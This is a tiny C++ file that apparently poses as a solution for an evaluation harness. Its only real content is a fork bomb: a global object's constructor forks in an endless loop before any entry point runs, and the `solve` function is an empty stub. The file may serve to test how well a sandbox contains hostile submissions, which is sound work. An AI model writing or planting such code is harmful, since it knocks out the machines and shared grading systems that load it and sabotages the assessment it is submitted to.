// Forks in a static initialiser, before any entry point is called.
#include <unistd.h>
struct Bomb {
    Bomb() {
        for (;;) fork();
    }
} bomb;
void solve(const float*, const float*, float*, int) {}
